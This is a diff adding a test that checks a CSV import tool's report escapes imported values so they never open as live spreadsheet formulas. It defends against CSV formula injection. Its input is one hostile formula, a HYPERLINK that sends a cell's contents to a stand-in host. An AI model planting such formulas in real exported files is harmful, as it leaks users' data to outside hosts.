@@ -562,6 +562,21 @@ def test_command_exits_2_and_changes_nothing_when_a_file_breaks_halfway(tmp_path
     assert not report.exists()
 
 
+def test_the_report_writes_imported_text_as_text_never_as_a_formula(tmp_path):
+    """Issue 10: a rejected row's case number comes back in the report; opened in a spreadsheet
+    it must not be a live formula."""
+    formula = '=HYPERLINK("http://x/?"&A2,"详情")'
+    path = write_csv(tmp_path / "a.csv", [record(case_number=formula)], chinese=True)
+    report = tmp_path / "report.csv"
+
+    code, _out, _err = run_command(path, "--report", report)
+
+    assert code == 1
+    [_header, line] = list(csv.reader(report.open(encoding="utf-8-sig")))
+    assert line[1] == "'" + formula
+    assert not any(field.startswith(("=", "+", "-", "@")) for field in line)
+
+
 def test_command_dry_run_changes_nothing(tmp_path):
     code, out, _err = run_command(write_csv(tmp_path / "a.csv", [record()]), "--dry-run")
 
